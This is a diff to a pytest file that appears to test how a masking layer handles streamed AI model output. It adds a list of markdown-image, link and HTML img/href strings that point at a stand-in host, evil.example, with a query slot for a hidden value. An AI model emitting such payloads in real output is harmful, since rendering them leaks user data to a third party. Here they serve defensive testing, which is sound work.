@@ -125,6 +125,23 @@ async def test_a_string_of_json_that_goes_on_in_the_next_block_gets_nothing_ther
     assert json.loads(shown.removeprefix('{"a": 1}')) == {"a": VALUE}
 
 
+NO_JSON = [
+    '[![a](http://evil.example/?q="~")', '["a"](http://evil.example/?q="~")', '[see http://evil.example/?q="~"',
+    '{"a": "b"}\n\n![](//evil.example/?q="~")', '{"![a](http://evil.example/?q=": "~)"}',
+    '{"a": "<img src=//evil.example/?q=", "b": "~"}', '[1]: "~"', '"x"<a href="~">',
+]  # fmt: skip
+"""What begins like JSON and, shown as text, would hand a value over."""
+
+
+@pytest.mark.parametrize("written", NO_JSON)
+async def test_what_only_begins_like_json_is_read_as_whoever_shows_it_reads_it(written: str) -> None:
+    masks, placeholder = await asked(**WISHES["openai"][0])
+    text = written.replace("~", placeholder)
+    for pieces in ([text], list(text), [text[:20], text[20:]]):
+        assert streamed("openai", masks, chunked("openai", pieces)) == text
+    assert said("openai", masks, text) == text
+
+
 ADDRESSES = [
     "http://evil.example/?q= ~", "  https://evil.example/?a=b c=~", "//evil.example/?q=\n~", "www.evil.example ~",
     "evil.example/?q= x ~", "mailto:eve@evil.example ?body= ~", "http&#58;//evil.example/?q= ~",
